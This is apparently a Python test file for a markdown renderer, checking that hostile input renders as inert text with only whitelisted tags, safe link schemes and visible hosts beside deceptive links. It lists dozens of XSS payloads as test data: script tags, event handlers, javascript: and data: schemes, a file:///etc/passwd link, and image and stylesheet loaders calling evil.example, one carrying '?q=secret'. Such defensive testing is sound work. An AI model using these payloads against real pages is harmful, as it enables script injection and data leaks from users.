"""Whatever a model or a person writes, a page shows text: it runs nothing and fetches nothing."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from humana.rendering import mathematics
from humana.rendering.markdown import render

TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "code", "pre", "span"),
    *("div", "blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td"),
    *mathematics.TAGS,
}
ATTRIBUTES = {"href", "title", "target", "rel", "start", "class"}.union(*mathematics.ATTRIBUTES.values())
REL = {"noopener", "noreferrer", "nofollow"}


class Reader(HTMLParser):
    """Reads as a browser would and keeps what it met."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.oddities: list[str] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.oddities.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment


def assert_harmless(html: str) -> Reader:
    """Only known tags and attributes; links lead out openly; nothing loads by itself."""
    page = Reader(html)
    assert not page.oddities
    assert {tag for tag, _ in page.tags} <= TAGS
    for tag, attributes in page.tags:
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        if tag == "a":
            assert urlsplit(attributes.get("href", "https:")).scheme in ("http", "https", "mailto")
            assert set(attributes["rel"].split()) == REL
    return page


SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/xss src=https://evil.example/x.js></script>",
    "text <script>alert(1)</script> text",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <script>alert(2)</script> |",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "<template><script>alert(1)</script></template>",
]
HANDLERS = [
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<p onmouseover='alert(1)'>over</p>",
    "<a href='https://ok.example' onclick='alert(1)'>a</a>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<x/onpointerenter=alert(1)>x</x>",
    '[a](https://ok.example "onclick=alert(1)")',
    '[a](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[a](https://ok.example'onclick='alert(1))",
    '```python" onclick="alert(1)\nx\n```',
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    '[a]: https://ok.example/"onclick="alert(1)\n\n[a]',
]
SCHEMES = [
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](  javascript:alert(1)  )",
    "[a](<javascript:alert(1)>)",
    "[a](java\tscript:alert(1))",
    "[a](<java\tscript:alert(1)>)",
    "[a](&#106;avascript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](&#x6A;&#x61;vascript&#58;alert(1))",
    "[a](\x01javascript:alert(1))",
    "[a](vbscript:msgbox(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[a](data:image/png;base64,AAAA)",
    "[a](file:///etc/passwd)",
    "[a](blob:https://ok.example/1)",
    "[a](view-source:javascript:alert(1))",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[a][1]\n\n[1]: javascript:alert(1)",
    "[1]\n\n[1]: <javascript:alert(1)> 'title'",
    "[1][]\n\n[1]: data:text/html,x",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[a](javascript:alert%281%29 'title')",
    "[a](feed:javascript:alert(1))",
]
LOADERS = [
    "![pixel](https://evil.example/p.gif?q=secret)",
    "![](https://evil.example/p.gif)",
    "![a](//evil.example/p.gif)",
    "![a][1]\n\n[1]: https://evil.example/p.gif",
    "![a](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "![a](data:image/svg+xml,<svg onload=alert(1)>)",
    "![a](javascript:alert(1))",
    "![<img src=x>](https://evil.example/'>\"<img src=x>)",
    "[![pixel](https://evil.example/p.gif)](https://ok.example)",
    "<img src=https://evil.example/p.gif>",
    "<picture><source srcset=https://evil.example/p.gif></picture>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/p.gif)'>x</p>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><image href=https://evil.example/p.svg></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>go</button></form>",
    "<audio autoplay src=https://evil.example/a.mp3>",
    "<table background=https://evil.example/p.gif><td>x",
]
BROKEN = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n",
    "```\n</code></pre><script>alert(1)</script>",
    "    </code></pre><img src=x onerror=alert(1)>",
    "~~~svg\n<svg onload=alert(1)>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html><head>",
    "<?php echo 1 ?>",
    "</div></main></body><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    '<a href="https://ok.example\n\nonclick=alert(1)">',
    "**<b onclick=alert(1)>**_<i_>",
    "[a](https://[bad)",
    "![a](https://[bad)",
    "<https://[bad>",
    "[a](http://]/x)",
    "[a](/own/page) [b](?q=1) [c](#there) [d](//evil.example)",
    "[a](<https://ok.example/<script>alert(1)</script>>)",
    "[" * 2000 + "a" + "](x)" * 2000,
    ">" * 3000 + " x",
    "- " * 1500 + "x",
    "*" * 4001 + "x" + "_" * 4001,
    "`" * 3000,
    "<" * 5000,
    "![" * 1500,
    "\u202e[txt](https://evil.example)\u2066",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "<svg/onload=alert(1)>",
]


@pytest.mark.parametrize(
    "text", [*SCRIPTS, *HANDLERS, *SCHEMES, *LOADERS, *BROKEN], ids=lambda text: text[:48]
)
def test_hostile_text_stays_text(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("text", SCHEMES, ids=lambda text: text[:48])
def test_no_link_carries_an_unsafe_scheme(text: str) -> None:
    assert not [attributes for _, attributes in assert_harmless(render(text)).tags if "href" in attributes]


@given(st.text(alphabet="<>\"'&/=!-[](){}`*_~#|:;\\ \n\tabjsx0.\u2028\x0b\r\x00", max_size=200))
def test_arbitrary_text_is_harmless(text: str) -> None:
    assert_harmless(render(text))


def test_an_image_becomes_a_link_that_says_where_it_leads() -> None:
    page = assert_harmless(render("![chart](https://pictures.example/a.png)"))
    assert [attributes["href"] for tag, attributes in page.tags if tag == "a"] == [
        "https://pictures.example/a.png"
    ]
    assert "(pictures.example)" in page.words


@pytest.mark.parametrize(
    ("words", "address"),
    [
        ("https://bank.example", "https://evil.example/login"),
        ("bank.example/?to=evil.example", "https://evil.example"),
        ("evil.example.bank.example", "https://evil.example"),
        ("read on", "https://bank.example@evil.example/"),
    ],
)
def test_misleading_words_get_the_host_beside_them(words: str, address: str) -> None:
    assert "(evil.example)" in Reader(render(f"[{words}](<{address}>)")).words


@pytest.mark.parametrize("words", ["good.example", "https://good.example", "HTTP://Good.example/a?b#c"])
def test_words_that_are_the_address_need_no_host_beside_them(words: str) -> None:
    assert "(" not in Reader(render(f"[{words}](https://good.example/a)")).words


def test_headings_stay_below_those_of_the_page() -> None:
    page = assert_harmless(render("# One\n\n## Two\n\n###### Six"))
    assert [tag for tag, _ in page.tags] == ["h3", "h4", "h6"]


@pytest.mark.parametrize("language", ["", "text", "plaintext"])
def test_code_without_a_language_worth_telling_has_no_label(language: str) -> None:
    assert "code-language" not in render(f"```{language}\nx\n```")
    assert '<span class="code-language">sql</span>' in render("```sql\nselect 1\n```")
